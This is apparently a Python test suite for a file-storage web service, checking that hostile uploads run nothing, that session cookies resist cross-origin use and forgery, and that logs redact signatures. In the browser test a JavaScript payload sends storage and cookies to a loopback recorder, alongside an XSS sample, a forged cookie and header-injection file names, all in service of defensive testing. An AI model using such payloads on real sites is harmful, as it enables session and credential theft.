"""Nothing a key holder uploads runs on the service's origin (issue 28): the headers of every
stored file's answer, a real browser opening hostile uploads through signed links while
another key is signed in, the session cookie, the pages' framing, bodies that do not decode,
and what the log keeps of a malformed request."""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from browsing import chromium
from playwright.async_api import Error as PlaywrightError
from service_harness import Running, basic_header, free_port, serving

from service.session import COOKIE

SANDBOX = "default-src 'none'; sandbox"


async def upload(running: Running, name: str, data: bytes, key: Any = None) -> str:
    """PUT into the key's default repository; the repository-relative path."""
    key = key or running.api.key
    status, body = await running.api.raw("PUT", f"/content/{key.default_content}/{name}",
                                         data=data, headers=basic_header(key))
    assert status == 201, body
    return name


async def signed(running: Running, name: str, key: Any = None) -> str:
    key = key or running.api.key
    made = await running.api.ok("CreateLink", {"contentId": key.default_content, "path": name},
                                key)
    url: str = made["url"]
    return url


@pytest.mark.parametrize(("name", "kind", "how"), [
    ("steal.html", "application/octet-stream", "attachment"),
    ("picture.svg", "application/octet-stream", "attachment"),
    ("code.js", "application/octet-stream", "attachment"),
    ("no-extension", "application/octet-stream", "attachment"),
    ("song.WAV", "audio/wav", "inline"),
    ("song.mp3", "audio/mpeg", "inline"),
    ("song.flac", "audio/flac", "inline"),
    ("song.opus", "audio/ogg", "inline"),
])
async def test_every_content_answer_is_inert(running: Running, name: str, kind: str,
                                             how: str) -> None:
    """Basic-auth reads and signed links alike: the type from the allow-list, a download
    unless audio, no sniffing, and a sandbox that runs nothing."""
    await upload(running, name, b"<html><script>alert(1)</script></html>")
    link = await signed(running, name)
    basic = f"{running.service.url}/content/{running.api.key.default_content}/{name}"
    client = running.api.client
    for url, headers in ((link, {}), (basic, basic_header(running.api.key))):
        for method in ("GET", "HEAD"):
            async with client.request(method, url, headers=headers) as answer:
                assert answer.status == 200
                assert answer.headers["Content-Type"] == kind
                assert answer.headers["Content-Disposition"].startswith(f"{how}; filename=")
                assert answer.headers["X-Content-Type-Options"] == "nosniff"
                assert answer.headers["Content-Security-Policy"] == SANDBOX


async def test_a_file_name_cannot_break_out_of_its_disposition(running: Running) -> None:
    await upload(running, "a%22%3B%20x%3D1%0D.html", b"x")
    async with running.api.client.get(await signed(running, 'a"; x=1\r.html')) as answer:
        assert answer.status == 200
        assert answer.headers["Content-Disposition"] == (
            "attachment; filename=\"a_; x=1_.html\"; filename*=UTF-8''a%22%3B%20x%3D1%0D.html")


@contextlib.asynccontextmanager
async def recorder() -> AsyncIterator[tuple[str, list[str]]]:
    """A loopback server that notes every request: where a leak would land."""
    seen: list[str] = []

    async def note(request: web.Request) -> web.Response:
        seen.append(request.path_qs)
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", note)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}", seen
    finally:
        await runner.cleanup()


async def test_hostile_uploads_run_nothing_for_a_signed_in_browser(running: Running) -> None:
    """Bob uploads a page, a picture and a script that would send Alice's key away; Alice,
    signed in on the start page, opens Bob's signed links in the same browser."""
    bob = running.other
    async with recorder() as (leak, seen), chromium() as browser:
        steal = (f'new Image().src = "{leak}/leak?" + encodeURIComponent('
                 "JSON.stringify([sessionStorage, localStorage]) + document.cookie);"
                 " window.stolen = 1;")
        await upload(running, "steal.html", f"<html><script>{steal}</script></html>".encode(),
                     bob)
        await upload(running, "steal.svg", ('<svg xmlns="http://www.w3.org/2000/svg">'
                                            f"<script>{steal}</script></svg>").encode(), bob)
        await upload(running, "steal.js", steal.encode(), bob)
        context = await browser.new_context()  # one browser profile: Alice's tab and Bob's links
        page = await context.new_page()
        await page.goto(running.service.url + "/")
        await page.fill("[name=secretId]", running.api.key.secret_id)
        await page.fill("[name=secretKey]", running.api.key.secret_key)
        await page.click("#signin button[type=submit]")
        await page.locator("#separate").wait_for()
        # what any script on the origin could read holds no secretKey
        stored = await page.evaluate("JSON.stringify([sessionStorage, localStorage])")
        assert running.api.key.secret_id in stored
        assert running.api.key.secret_key not in stored
        assert await page.evaluate("document.cookie") == ""  # HttpOnly

        for name in ("steal.html", "steal.svg"):
            tab = await context.new_page()
            async with tab.expect_download(timeout=15_000) as download:
                with contextlib.suppress(PlaywrightError):  # "Download is starting"
                    await tab.goto(await signed(running, name, bob))
            assert (await download.value).suggested_filename == name
            await tab.close()
        # a script from a signed link on the start page itself: refused as opaque bytes
        with contextlib.suppress(PlaywrightError):
            await page.add_script_tag(url=await signed(running, "steal.js", bob))
        assert await page.evaluate("window.stolen === undefined")
        # and the start page still works, signed in (the cookie is sent by the browser)
        await page.reload()
        await page.locator("#jobs li").first.wait_for()
    assert seen == []


async def test_the_session_cookie_stands_for_the_key_only_from_our_pages(
        running: Running) -> None:
    api, url = running.api, running.service.url
    own = {"Origin": url}
    # a cookie jar of its own; unsafe: it keeps cookies of an IP address (127.0.0.1)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as client:
        async with client.post(f"{url}/session", json={"secretId": api.key.secret_id,
                                                       "secretKey": "wrong"}) as answer:
            assert answer.status == 401 and COOKIE not in answer.cookies
        async with client.post(f"{url}/session", json={"secretId": api.key.secret_id,
                                                       "secretKey": api.key.secret_key}) as a:
            assert a.status == 200
            cookie = a.cookies[COOKIE]
            assert cookie["httponly"] and cookie["samesite"] == "Strict"
            assert cookie["path"] == "/" and api.key.secret_key not in cookie.value
        listing = {"action": "ListJobs", "listJobsRequest": {}}
        async with client.post(f"{url}/release/job", json=listing, headers=own) as answer:
            assert answer.status == 200, await answer.text()
        for headers in ({}, {"Origin": "http://evil.example"}):
            async with client.post(f"{url}/release/job", json=listing, headers=headers) as a:
                assert a.status == 401
                assert "session cookie counts only" in (await a.json())["error"]["message"]
        async with client.put(f"{url}/content/{api.key.default_content}/up.wav", data=b"x",
                              headers=own) as answer:
            assert answer.status == 201
        async with client.get(f"{url}/session") as answer:  # plain http sends no Origin
            assert (await answer.json())["session"]["secretId"] == api.key.secret_id
        forged = cookie.value.split(".", 2)[0] + "." + "0" * 64 + "." + api.key.secret_id
        async with api.client.post(f"{url}/release/job", json=listing,  # no cookie jar
                                   headers={**own, "Cookie": f"{COOKIE}={forged}"}) as answer:
            assert (await answer.json())["error"]["message"] == (
                "the session is not genuine: sign in again")
        async with client.delete(f"{url}/session") as answer:
            assert answer.status == 204
        async with client.post(f"{url}/release/job", json=listing, headers=own) as answer:
            assert answer.status == 401


async def test_pages_refuse_to_be_framed(running: Running) -> None:
    async with running.api.client.get(running.service.url + "/") as answer:
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Frame-Options"] == "DENY"


async def test_a_body_that_does_not_decode_whole_is_refused_and_replaces_nothing(
        running: Running) -> None:
    api = running.api
    path = f"/content/{api.key.default_content}/kept.wav"
    await upload(running, "kept.wav", b"the original")
    whole = gzip.compress(b"the replacement" * 1000)
    cases = [(b"this is not gzip at all", "gzip", "is not valid gzip data"),
             (whole[: len(whole) // 2], "gzip", "ends early"),
             (whole + b"trailing", "gzip", "has bytes after its end"),
             (b"x", "br", "Content-Encoding 'br' is not supported")]
    for body, encoding, message in cases:
        headers = {**basic_header(api.key), "Content-Encoding": encoding}
        status, answer = await api.raw("PUT", path, data=body, headers=headers)
        assert status == (415 if encoding == "br" else 400), answer
        assert message in answer["error"]["message"]
        assert (running.settings.content_dir / api.key.default_content / "kept.wav"
                ).read_bytes() == b"the original"
        status, answer = await api.raw("POST", "/release/job", data=body,
                                       headers={"Content-Encoding": encoding})
        assert status in (400, 415) and message in answer["error"]["message"]
    headers = {**basic_header(api.key), "Content-Encoding": "gzip"}
    status, _ = await api.raw("PUT", path, data=whole, headers=headers)
    assert status == 201
    assert (running.settings.content_dir / api.key.default_content / "kept.wav"
            ).read_bytes() == b"the replacement" * 1000


async def test_a_malformed_request_leaves_no_link_signature_in_the_log(
        running: Running, caplog: pytest.LogCaptureFixture) -> None:
    host, port = running.service.url.removeprefix("http://").split(":")
    signature = "f00d" * 16
    requests = [
        f"GET /content/r/a.wav?expires=1&signature={signature}&pad={'a' * 9000} HTTP/1.1\r\n"
        "Host: x\r\n\r\n",
        f"GET /content/r/a.wav?expires=1&signature={signature} HTTP/1.1\r\nHost: x\r\n"
        f"X-Long: {'s' * 9000}\r\n\r\n",
        f"GET /content/r/a.wav?expires=1&signature={signature} HTTP/1.1\r\nHost: x\r\n"
        "Bad Header\r\n\r\n",
    ]
    with caplog.at_level(logging.DEBUG):
        for text in requests:
            reader, writer = await asyncio.open_connection(host, int(port))
            writer.write(text.encode())
            await writer.drain()
            assert (await reader.read(12)).startswith(b"HTTP/1.")
            writer.close()
        async with running.api.client.get(f"{running.service.url}/content/r/a.wav"
                                          f"?expires=1&signature={signature}") as answer:
            assert answer.status == 401
    logged = caplog.text + "".join(str(r.exc_info) for r in caplog.records)
    assert "refused a malformed request: LineTooLong (HTTP 400)" in logged
    assert signature not in logged and "signature=" not in logged


async def test_a_content_origin_of_its_own(tmp_path: Path) -> None:
    """STEMBOT_CONTENT_URL: links point there, it serves signed links only, and a signed link
    that reaches the pages' host is sent there."""
    port = free_port()
    pages, files = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    async with serving(tmp_path / "data", port=port, public_url=pages,
                       content_url=files) as running:
        await upload(running, "song.wav", b"RIFF")
        link = await signed(running, "song.wav")
        assert link.startswith(f"{files}/content/")
        client = running.api.client
        async with client.get(link) as answer:
            assert answer.status == 200 and await answer.read() == b"RIFF"
            assert answer.headers["Access-Control-Allow-Origin"] == pages
            assert answer.headers["Content-Security-Policy"] == SANDBOX
        on_pages = link.replace(files, pages)
        async with client.get(on_pages, allow_redirects=False) as answer:
            assert answer.status == 307 and answer.headers["Location"] == link
        for path in ("/", "/static/start.js", "/openapi.json"):
            async with client.get(files + path) as answer:
                assert answer.status == 404
                assert (await answer.json())["error"]["message"] == (
                    "this host serves signed content links only")
        async with client.post(files + "/release/job", json={}) as answer:
            assert answer.status == 404
        async with client.get(pages + "/") as answer:
            assert answer.status == 200
